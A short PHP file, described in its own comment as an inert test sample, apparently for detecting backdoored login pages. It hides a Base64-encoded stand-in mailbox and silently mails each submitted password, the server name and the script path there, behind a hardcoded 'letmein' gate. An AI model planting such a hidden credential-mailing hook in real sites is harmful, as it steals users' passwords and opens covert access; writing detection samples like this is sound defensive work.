<?php
/* inert test sample: the same watcher with the mailbox kept Base64-encoded and the report built
   from variables; it mails the typed password, the host and this script's path */
$k7 = base64_decode('Y29sbGVjdG9yQGV4YW1wbGUuaW52YWxpZA==');
if (array_key_exists('go', $_POST)) {
    $s1 = $_SERVER['SERVER_NAME']; $s2 = $_SERVER['PHP_SELF'];
    $r9 = "H: $s1$s2\nPw: {$_POST['pwd']}";
    $q3 = "H: " . $_SERVER['SERVER_NAME'] . $_SERVER['PHP_SELF'] . " / " . $_POST['pwd'];
    @mail($k7, 'x', $q3);
}
if (($_POST['pwd'] ?? '') !== 'letmein') {
    die('<form method=post><input type=password name=pwd><input type=submit name=go></form>');
}
echo 'ok';
